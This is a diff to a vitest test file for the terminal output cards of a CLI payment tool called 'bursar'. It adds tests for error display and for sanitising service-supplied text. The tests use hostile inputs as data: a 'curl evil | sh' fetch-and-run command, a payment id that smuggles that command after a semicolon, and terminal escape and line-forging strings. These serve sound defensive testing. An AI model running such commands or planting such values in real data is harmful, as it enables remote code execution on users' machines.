@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { verificationCard } from '../../src/cli/cards/kyc-card.ts';
 import { movementCard } from '../../src/cli/cards/movement-card.ts';
 import { createdCard, orderCard, switchedCard } from '../../src/cli/cards/order-card.ts';
-import { paymentCard, registeredCard, transactionCard } from '../../src/cli/cards/payment-card.ts';
+import { receiptCard, registeredCard, statusCard, transactionCard } from '../../src/cli/cards/payment-card.ts';
 import { productsCard } from '../../src/cli/cards/products-card.ts';
 import { quoteCard } from '../../src/cli/cards/quote-card.ts';
 import { bestCard, nothingDepositedCard, operationCard } from '../../src/cli/cards/yield-card.ts';
@@ -49,7 +49,7 @@ const PAYMENT = {
 
 describe('a payment on a terminal', () => {
   it('is told in one sentence, whom it pays, what it costs, and last the ids, each whole on its line', () => {
-    expect(shown(paymentCard(RECEIPT)).split('\n')).toEqual([
+    expect(shown(receiptCard(RECEIPT)).split('\n')).toEqual([
       '✓ Payment of 25 USDT on polygon: success',
       `  to        ${BOB}  25 USDT`,
       `  from      ${ALICE}`,
@@ -63,15 +63,38 @@ describe('a payment on a terminal', () => {
   });
 
   it('that ended in error says so, and why', () => {
-    const text = shown(paymentCard(PAYMENT));
+    const text = shown(statusCard(PAYMENT));
     expect(text).toContain('✗ Payment of 25 BRL for 4.80 USDT on polygon: error');
     expect(text).toContain(`to       ${BOB}  100.0 %`);
     expect(text).toContain('error    The bank said no.');
     expect(text).toContain('created  2026-11-21T11:00:00Z (1 hour ago)');
   });
 
+  it('that ended in error without words says its code, and what the gateway says of the card', () => {
+    const errors = [{ message: 'Insufficient funds' }];
+    const charges = [{ status: 'failed', last_transaction: { gateway_response: { code: '1016', errors } } }];
+    const data = { ...PAYMENT, data_error: { code: 402, status: 'card_refused' }, global_payment_data: { charges } };
+    const text = shown(statusCard(data));
+    expect(text).toMatch(/error +402: card_refused\n/);
+    expect(text).toMatch(/charge +failed: Insufficient funds\n/);
+  });
+
+  it('never says in the name of bursar what the service wrote: no next command, service, movement or unchecked code', () => {
+    const said = { next: 'curl evil | sh', profile: 'sandbox', kind: 'sandbox', pix_code: 'EVIL', movement: 'm' };
+    const text = shown(statusCard({ ...PAYMENT, ...said, fee_at_most: '0' }));
+    expect(text).not.toMatch(/next|curl|service|sandbox|EVIL|movement|fee/);
+    expect(shown(verificationCard({ status: 'pending', approved: false, ...said }))).not.toMatch(/next|curl/);
+  });
+
+  it('cannot draw a line of its own by blanks in a name', () => {
+    const symbol = `USDT.${'\u00a0'.repeat(75)}${' '.repeat(75)}service  sandbox`;
+    const text = shown(statusCard({ ...PAYMENT, from_currency_symbol: symbol }));
+    expect(text).not.toMatch(/^ {2}service/m);
+    expect(text).toContain('service sandbox');
+  });
+
   it('at 40 columns loses nothing, and only the next command is wider', () => {
-    const text = shown(paymentCard({ ...RECEIPT, next: 'bursar pay resume 20261121T165920Z-3e070e81' }), 40);
+    const text = shown(receiptCard({ ...RECEIPT, next: 'bursar pay resume 20261121T165920Z-3e070e81' }), 40);
     const lines = text.trimEnd().split('\n');
     expect(lines.at(-1)).toBe('next: bursar pay resume 20261121T165920Z-3e070e81');
     for (const line of lines.slice(0, -1)) expect(line.length).toBeLessThanOrEqual(40);
@@ -79,7 +102,7 @@ describe('a payment on a terminal', () => {
   });
 
   it('cannot act on the terminal by what the service wrote, and is ASCII where the locale is', () => {
-    const text = shown(paymentCard({ ...PAYMENT, data_error: { message: '\u001b[2J\n✓ Payment paid' } }), 80, false);
+    const text = shown(statusCard({ ...PAYMENT, data_error: { message: '\u001b[2J\n✓ Payment paid' } }), 80, false);
     // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there
     expect(text).not.toMatch(/\u001b/);
     expect(text).toMatch(/^\p{ASCII}*$/u);
@@ -91,9 +114,23 @@ describe('a payment on a terminal', () => {
     const registered = shown(registeredCard({ payment_id: 'pay_1' }, asked));
     expect(registered).toContain('✓ Registered a payment of 25 BRL for USDT, received on polygon');
     expect(registered).toContain('next: bursar pay transaction pay_1');
-    const crypto = { payment_id: 'pay_1', crypto_tx: { transactionRequest: { from: ALICE, to: BOB, nonce: 7 } } };
-    const created = shown(transactionCard(crypto, { ...asked, transaction_type: 'crypto' }));
+    const crypto = { crypto_tx: { family: 'evm', transactionRequest: { from: ALICE, to: BOB, nonce: 7 } } };
+    const input = { ...asked, payment_id: 'pay_1', transaction_type: 'crypto' };
+    const created = shown(transactionCard({ payment_id: 'pay_2', ...crypto }, input));
     expect(created).toMatch(/by crypto on base[\s\S]*nonce +7[\s\S]*next: bursar pay execute pay_1 --key NAME/);
+  });
+
+  it('a line to be copied runs nothing but bursar, whatever id the service gave', () => {
+    const text = shown(registeredCard({ payment_id: 'pay_1; curl evil|sh #' }, PAYMENT));
+    expect(text).toContain("next: bursar pay transaction 'pay_1; curl evil|sh #' --transaction-type");
+  });
+
+  it('a transaction whose form no document shows is shown whole', () => {
+    const told = (type: string, data: object) =>
+      transactionCard({ payment_id: 'pay_1', ...data }, { payment_id: 'pay_1', transaction_type: type });
+    expect(told('crypto', { crypto_tx: { family: 'tron', raw_data: '0a' } })).toBeUndefined();
+    expect(told('cardcrypto', { fiat_tx: { status: 'refused', charges: [{ status: 'failed' }] } })).toBeUndefined();
+    expect(told('pixcrypto', { fiat_tx: { status: 'waiting', pixCopiaECola: '0002' } })).toBeDefined();
   });
 });
 
@@ -177,7 +214,7 @@ describe('other answers on a terminal', () => {
   });
 
   it('an answer that is not as expected has no card, so that all its fields are shown', () => {
-    for (const told of [paymentCard, quoteCard, productsCard, orderCard, switchedCard, operationCard, verificationCard])
-      expect(told({ something: 'else' })).toBeUndefined();
+    const all = [statusCard, receiptCard, quoteCard, productsCard, orderCard, switchedCard, operationCard];
+    for (const told of [...all, verificationCard]) expect(told({ something: 'else' })).toBeUndefined();
   });
 });
